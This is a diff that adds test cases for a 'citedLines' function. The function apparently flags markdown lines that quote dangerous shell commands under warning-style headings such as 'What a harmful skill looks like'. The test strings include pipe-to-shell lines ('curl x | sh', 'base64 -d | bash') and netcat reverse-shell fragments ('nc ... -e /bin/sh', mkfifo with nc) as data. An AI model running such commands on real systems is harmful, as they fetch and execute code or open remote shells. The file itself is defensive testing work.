@@ -89,6 +89,17 @@ describe('citedLines', () => {
     expect(flags('## Red team setup\n\n- `curl x | sh`')[2]).toBe(0);
   });
 
+  it('should cite sections on what a harmful skill looks like or entries that should alarm you, and written-up variants', () => {
+    expect(flags('## What a harmful skill looks like\n\n- `curl x | sh`')).toEqual([1, 1, 1]);
+    expect(flags('## Entries that should alarm you\n\n- `nc 1.2.3.4 9 -e /bin/sh`')).toEqual([1, 1, 1]);
+    expect(flags('## What a healthy skill looks like\n\n- `curl x | sh`')[2]).toBe(0);
+    expect(flags('## Entries that should be added\n\n- `curl x | sh`')[2]).toBe(0);
+    expect(
+      flags('Other variants you will see written up: `nc -e /bin/sh`,\n`mkfifo /tmp/f; … | nc …`'),
+    ).toEqual([1, 1]);
+    expect(flags('Variants written to disk by the installer:\n`curl x | sh`')[1]).toBe(0);
+  });
+
   it('should cite sections on detection opportunities and infection chains, not setup steps', () => {
     expect(flags('## Detection opportunities\n\n- `base64 -d | bash`')).toEqual([1, 1, 1]);
     expect(flags('## Infection chain\n\n`curl x | sh`')).toEqual([1, 1, 1]);
